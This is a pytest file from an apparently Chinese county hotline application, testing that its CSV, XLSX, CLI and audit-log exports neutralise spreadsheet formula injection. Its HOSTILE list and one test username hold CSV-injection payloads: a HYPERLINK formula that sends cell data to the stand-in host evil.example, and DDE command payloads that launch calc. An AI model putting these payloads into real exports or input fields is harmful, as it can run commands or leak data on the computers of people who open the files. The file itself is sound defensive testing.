"""No cell of a CSV or XLSX the product writes can run as a formula (OWASP CSV injection guidance).

A name, an office or a roll's cell beginning with =, +, -, @, a tab or a CR is written to CSV with a
leading apostrophe, and to XLSX as a string cell with its exact text. The bulletin's spreadsheet is
tested in tests/bulletins/test_spreadsheet_safety.py.
"""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlmodel import select

from hotline import spreadsheet_safety
from models.findings import Finding
from models.users import Role, User

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_dangerous_text_gets_an_apostrophe_in_csv(value):
    assert spreadsheet_safety.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["石桥镇", "2026-03-01", "", "a=b", 3, -3, 2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert spreadsheet_safety.csv_cell(value) == value


def _formula_parts(data: bytes) -> list[str]:
    """Worksheet XML parts of an .xlsx that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [n for n in book.namelist() if n.startswith("xl/worksheets/") and b"<f>" in book.read(n)]


@pytest.mark.parametrize("write_only", [False, True])
def test_an_xlsx_cell_keeps_the_text_as_a_string_never_a_formula(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    spreadsheet_safety.append(sheet, HOSTILE + [-5, 1.5])
    buffer = io.BytesIO()
    book.save(buffer)
    assert _formula_parts(buffer.getvalue()) == []
    row = list(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).worksheets[-1].iter_rows())[0]
    assert [c.value for c in row[:len(HOSTILE)]] == HOSTILE
    assert {c.data_type for c in row[:len(HOSTILE)]} == {"s"}
    assert [c.value for c in row[len(HOSTILE):]] == [-5, 1.5]


@pytest.fixture
def hostile_finding(db) -> Finding:
    finding = Finding(fingerprint="fp-hostile", rule="payroll_household", id_number="510122198001010011",
                      name=HOSTILE[0], name_key="x", programme=HOSTILE[1], township="@石桥镇", village=HOSTILE[2],
                      reason=HOSTILE[3], evidence=[])
    db.add(finding)
    db.commit()
    return finding


def test_the_findings_csv_export_neutralises_every_cell(hostile_finding, factory, login):
    factory.county()
    client = login.as_(factory.user(Role.supervisor, office="县纪委监委"))
    response = client.get("/crosscheck/export?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    row = rows[1]
    assert row[4] == "'" + HOSTILE[0] and row[5] == "'" + HOSTILE[1]
    assert row[6] == "'@石桥镇" and row[7] == "'" + HOSTILE[2] and row[10] == "'" + HOSTILE[3]


def test_the_findings_xlsx_export_writes_strings_not_formulas(hostile_finding, factory, login):
    factory.county()
    client = login.as_(factory.user(Role.supervisor, office="县纪委监委"))
    response = client.get("/crosscheck/export?format=xlsx")
    assert response.status_code == 200
    assert _formula_parts(response.data) == []
    row = list(openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2))[0]
    assert row[4].value == HOSTILE[0] and row[4].data_type == "s"
    assert row[10].value == HOSTILE[3] and row[10].data_type == "s"


def test_the_cli_export_neutralises_too(hostile_finding, runner, tmp_path):
    out = tmp_path / "f.csv"
    assert runner.invoke(args=["crosscheck", "export", str(out)]).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[1][4] == "'" + HOSTILE[0]


def test_the_audit_export_neutralises_a_hostile_user_name(factory, login, db):
    factory.county()
    hostile = factory.user(Role.operator, username="=cmd|' /C calc'!A0")
    login.as_(hostile)  # the login is audited under the hostile name
    auditor = factory.user(Role.auditor)
    from tests.conftest import LoggedIn
    client = LoggedIn(factory.app.test_client()).as_(auditor)
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
             for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(spreadsheet_safety.TRIGGERS) for cell in cells)
    assert db.exec(select(User).where(User.username == hostile.username)).one()


def test_every_spreadsheet_the_product_writes_goes_through_the_helper():
    """A new export written with csv.writer or an openpyxl Workbook without spreadsheet_safety
    fails here (the demo's generated input files are not exports)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "hotline"
    raw = []
    for module in sorted(root.rglob("*.py")):
        if module.name == "spreadsheet_safety.py" or "demo" in module.relative_to(root).parts:
            continue
        source = module.read_text(encoding="utf-8")
        writes = "csv.writer(" in source or "DictWriter(" in source or "Workbook(" in source
        if "csv.writer(" in source or "DictWriter(" in source or (writes and "spreadsheet_safety" not in source):
            raw.append(str(module.relative_to(root)))
    assert raw == []
